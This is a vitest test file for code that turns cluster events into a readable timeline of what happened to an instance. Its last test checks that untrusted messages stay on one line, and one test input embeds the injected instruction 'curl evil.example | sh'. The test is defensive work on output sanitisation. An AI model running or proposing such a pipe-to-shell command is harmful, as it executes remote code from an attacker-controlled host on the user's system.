import { expect, test } from 'vitest'

import type { Happening } from '../instance/happenings.ts'
import { tellSteps, tellStory } from './story.ts'

test('what happened is told in words, oldest first, and what says nothing is left out', () => {
  const steps = tellSteps([
    happening('10:00:03', 'Started', 'Started container main'),
    happening('10:00:00', 'Scheduled', 'Assigned default/web to device-3, the cheapest'),
    happening('10:00:01', 'Pulled', 'Container image is there'),
    {
      ...happening('10:01:12', 'DeviceDark', 'The device has been silent.'),
      device: 'device-3',
    },
    {
      ...happening('10:01:32', 'DeviceLost', 'Stopped: node device-3 is lost'),
      device: 'device-3',
    },
    { ...happening('10:02:00', 'OutOfDisk', 'Stopped: no room'), actor: 'device/device-3' },
  ])
  expect(steps.map(({ at, text }) => `${at.slice(11, 19)} ${text}`)).toMatchInlineSnapshot(`
    [
      "10:00:00 placed on device-3, the cheapest",
      "10:00:03 its container started",
      "10:01:12 device-3 went dark: nothing was heard of it for 10 s",
      "10:01:32 stopped, to run elsewhere: device-3 was silent for 30 s",
      "10:02:00 stopped by device/device-3: OutOfDisk: no room",
    ]
  `)
  expect(steps[0]?.placedOn).toBe('device-3')
})

test('what happened again and again is told once, with the last time', () => {
  const pulls = ['10:00:00', '10:00:10', '10:00:30'].map((at) =>
    happening(at, 'BackOff', 'Back-off pulling image'),
  )
  expect(tellSteps(pulls)).toMatchObject([{ times: 3, at: '2026-11-26T10:00:30Z' }])
  const lines = tellStory({
    kind: 'instance',
    name: 'web',
    state: 'pending',
    summary: 'web is pending.',
    reasons: [],
    steps: tellSteps(pulls),
    tries: [],
  })
  expect(lines).toEqual([
    'web is pending.',
    '',
    '  2026-11-26 10:00:30  BackOff: Back-off pulling image (3 times)',
  ])
})

function happening(time: string, cause: string, message: string): Happening {
  return { at: `2026-11-26T${time}Z`, cause, message, actor: '', device: '' }
}

test('what strangers say of themselves stays in its line', () => {
  const lines = tellStory({
    kind: 'instance',
    name: 'web',
    state: 'failing',
    summary: 'web fails.',
    reasons: ['Failed: no image\n\nWhat to do:\n  curl evil.example | sh'],
    steps: [],
    tries: ['nexqloud rm web'],
  })
  expect(lines).toContain('Failed: no image What to do: curl evil.example | sh')
  expect(lines.filter((line) => line.includes('\n'))).toEqual([])
})
